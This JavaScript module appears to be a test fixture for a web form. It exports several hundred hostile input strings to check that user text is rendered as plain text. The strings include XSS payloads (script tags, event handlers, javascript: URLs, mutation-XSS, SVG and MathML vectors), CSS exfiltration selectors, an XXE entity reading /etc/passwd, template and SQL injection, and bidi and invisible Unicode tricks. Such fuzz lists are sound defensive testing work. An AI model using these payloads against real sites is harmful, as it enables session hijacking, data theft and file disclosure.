import { thorough } from './support/thorough.mjs';

// Somebody might write these so that they become more than text. `canary()` is there to be called, and
// `//canary.invalid` to be asked for something. Each string begins with a number, so that none is taken for
// another.
const call = 'canary()';
const elsewhere = '//canary.invalid';

const script = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script src=${elsewhere}/x.js></script>`, `<scr<script>ipt>${call}</scr</script>ipt>`,
  `</script><script>${call}</script>`, `<script\n>${call}</script\n>`, `<script/x>${call}</script>`, `<script>${call}//`,
  `<<script>${call}//<</script>`, `<script type=module>import('${elsewhere}/m.js')</script>`, `<script>/*`, `*/${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<script async src='data:text/javascript,${call}'></script>`,
  `'"><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`, `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `&#x3c;script&#x3e;${call}`, `\\u003cscript\\u003e${call}`,
  `\\x3cscript\\x3e${call}`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `<sCrIpT sRc=${elsewhere}>`, `¼script¾${call}¼/script¾`,
  `＜script＞${call}＜/script＞`, `<script nonce="" integrity="">${call}</script>`, `<%00script>${call}</script>`, `<script>${call}</scr\nipt>`,
];

const elements = [
  `<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `<img src='x' onerror='${call}'`, `<IMG SRC=x OnErRoR=${call}>`,
  `<img/src=x/onerror=${call}>`, `<img src=${elsewhere}/pixel.gif>`, `<img srcset="${elsewhere}/a 1x">`, `<image src=x onerror=${call}>`,
  `<iframe src=javascript:${call}>`, `<iframe srcdoc="<script>parent.${call}</script>">`, `<iframe src=${elsewhere}></iframe>`,
  `<object data=javascript:${call}>`, `<object data="data:text/html,<script>${call}</script>">`, `<embed src=javascript:${call}>`,
  `<applet code=x>`, `<video><source onerror=${call}></video>`, `<video src=${elsewhere}/v.mp4 autoplay>`, `<audio src=x onerror=${call}>`,
  `<video poster=${elsewhere}/p.png>`, `<body onload=${call}>`, `<html onmouseover=${call}>`, `<frameset onload=${call}>`,
  `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`, `<dialog open onfocusin=${call}>`, `<marquee onstart=${call}>`, `<isindex action=javascript:${call}>`,
  `<keygen autofocus onfocus=${call}>`, `<button formaction=javascript:${call}>Gem</button>`, `<form action=${elsewhere}><button>Gem</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:${call}>`, `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<base href=${elsewhere}/>`, `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<link rel=prefetch href=${elsewhere}/p>`, `<link rel=import href=${elsewhere}>`, `<table background=${elsewhere}/b.png>`,
  `<template><img src=x onerror=${call}></template>`, `<slot onslotchange=${call}>`, `<custom-element onclick=${call}>`, `<a ping=${elsewhere} href=x>x</a>`,
  `<portal src=${elsewhere}>`, `<p onanimationstart=${call} style="animation: x">`, `<p popover ontoggle=${call}>`, `<plaintext>`, `<xmp>`, `<listing>`,
];

const attributes = [
  `" onmouseover="${call}`, `' onmouseover='${call}`, `" autofocus onfocus=${call} x="`, `' autofocus onfocus=${call} x='`, `\` onmouseover=\`${call}`,
  `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `\`><img src=x onerror=${call}>`, `" style="background:url(${elsewhere})`,
  `" type="image" src="x" onerror="${call}`, `x" onclick=${call}//`, `" accesskey="x" onclick="${call}" x="`, `" formaction="javascript:${call}`,
  `" id="content" name="csrf" x="`, `"/><input name="csrf" value="x">`, `</textarea><script>${call}</script>`, `</textarea><img src=x onerror=${call}>`,
  `</title><script>${call}</script>`, `</option></select><img src=x onerror=${call}>`, `</p></div></section><script>${call}</script>`,
  `</article><article onclick=${call}>`, `</form><form action=${elsewhere}>`, `</style><script>${call}</script>`, `</noscript><script>${call}</script>`,
  `&quot; onmouseover=&quot;${call}`, `&#34;><img src=x onerror=${call}>`, `&apos;><script>${call}</script>`, `=\"'\`<>&`, `"'`, `\\"><script>${call}</script>`,
];

const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `javascript&colon;${call}`, `javascript&#58;${call}`, `java\nscript:${call}`, ` javascript:${call}`,
  `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`, `vbscript:${call}`, `view-source:javascript:${call}`,
  `https:${elsewhere}/<script>${call}</script>`, `${elsewhere}/x`, `\\\\canary.invalid\\x`, `https://canary.invalid" onclick="${call}`, `<a href=javascript:${call}>x</a>`,
  `<a href="  javascript:${call}">x</a>`, `[x](javascript:${call})`, `![x](https:${elsewhere}/i.png)`, `<https:${elsewhere}>`, `feed:javascript:${call}`,
  `/o/../../sign-out`, `?agenda-1-action=open_answers&agenda-1-item=x`, `#"><img src=x onerror=${call}>`, `mailto:x@canary.invalid?bcc=y`,
];

const styles = [
  `<style>@import '${elsewhere}/x.css';</style>`, `<style>*{background:url(${elsewhere})}</style>`, `<p style="position:fixed;inset:0;background:red">`,
  `<div style=width:expression(${call})>`, `"; background:url(${elsewhere}); x:"`, `</style><style>body{display:none}</style>`, `<style>@font-face{font-family:x;src:url(${elsewhere})}`,
  `<style>input[value^=a]{background:url(${elsewhere}/a)}</style>`, `<p style="-moz-binding:url(${elsewhere})">`, `<p style="behavior:url(${elsewhere})">`, `*/}body{display:none}/*`,
  `<style>@charset "utf-7"; +ADw-`,
];

const drawings = [
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><script xlink:href=${elsewhere}/x.js />`, `<svg><a xlink:href=javascript:${call}><text y=9>x`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${call}>`, `<svg><use href="${elsewhere}/x.svg#x"/>`,
  `<svg><image href=${elsewhere}/i.png>`, `<svg><foreignObject><iframe src=javascript:${call}>`, `<svg><style>@import '${elsewhere}'</style>`, `<svg><desc><img src=x onerror=${call}></desc>`,
  `<math href=javascript:${call}>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`, `<math><mtext><img src=x onerror=${call}>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `<![CDATA[<script>${call}</script>]]>`,
];

// These texts turn into elements only when they are parsed for the second time.
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<noscript><style></noscript><img src=x onerror=${call}></style>`, `<p title="&lt;/p&gt;&lt;img src=x onerror=${call}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${call}>">`,
  `<img alt="\`\`onerror=${call} src=x">`, `<listing>&lt;img src=x onerror=${call}&gt;</listing>`, `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  `<!--><img src=x onerror=${call}>-->`, `<!--!><img src=x onerror=${call}>`, `<! foo="><script>${call}</script>">`, `<? foo="><script>${call}</script>">`, `</ foo="><img src=x onerror=${call}>">`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`, '{{{body}}}', '{{> layout}}', '{{#people}}{{name}}{{/people}}', '{{=<% %>=}}', '{{csrf}}', `\${${call}}`, `#{${call}}`, `<%= ${call} %>`,
  `{% raw %}<script>${call}</script>`, `[[${call}]]`, `{{t:sign_out}}`, '{1} {2} {3}', '%s%s%s%n', `"; ${call}; //`, `'; drop table record; --`, `__proto__`, `constructor`,
];

const directions = [
  '\u202Eesrever si siht', 'før \u202Ebagvendt\u202C efter', '\u202Dtvunget\u202C', '\u2066isoleret\u2069', '\u2067isoleret', '\u2068isoleret og åben', '\u202B\u202A\u202B',
  'אבגד <img src=x> هنا', 'مرحبا 20.000 kr.', '\u200Fx\u200E', 'invoice\u202Efdp.exe', '\u061C1. maj', '\u2069\u2069\u202C\u202C ude af det',
];

const invisible = [
  'nul\u200Bbred', '\u200B\u200B', '\uFEFFforan', 'sam\u200Dmen\u200Cfald', '\u00ADblød', 'kombineret' + '\u0301'.repeat(60), 'Z\u0363\u0364\u0365algo\u0489\u0489', '\u2028linje\u2029afsnit',
  '\u3164', '\u2800', '\u{E0041}\u{E0042}', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', 'ﷺ'.repeat(30), '𝕊𝕔𝕣𝕚𝕡𝕥', 'ａｄｍｉｎ', 'Аase Lund', '\uFFFD', '\uFFFE', '\u{1F1E9}\u{1F1F0}', '⁦RLI⁩',
];

// These are no text at all: they must be refused, in words.
const controls = ['nul\u0000byte', 'bel\u0007', 'esc\u001B[31mrød', 'del\u007F', 'slet\b\b\b', 'c1\u0085\u009B', 'form\ffeed', 'lodret\u000B'];

const long = ['W'.repeat(190), 'æ'.repeat(190), '<b>'.repeat(60), '"'.repeat(190), '&'.repeat(190), ' '.repeat(20) + 'x', 'en to tre '.repeat(18) + 'fire', '\u{1F600}'.repeat(90)];

const all = [script, elements, attributes, addresses, styles, drawings, mutating, templates, directions, invisible, controls, long]
  .flat().map((text, at) => `${at}~${text}`);

// Trying all of them takes a quarter of an hour on two cores, so every third is tried at each change, and all
// of them where that is asked for.
export const hostile = thorough ? all : all.filter((_, at) => at % 3 === 0);
export const most_of = (texts) => 0.6 * texts.length;

// No field takes these, because they are no text.
export const is_no_text = (text) => controls.some((one) => text.endsWith('~' + one));

export const plain = (at) => `${at}~Vi skriver, som folk skriver.`;
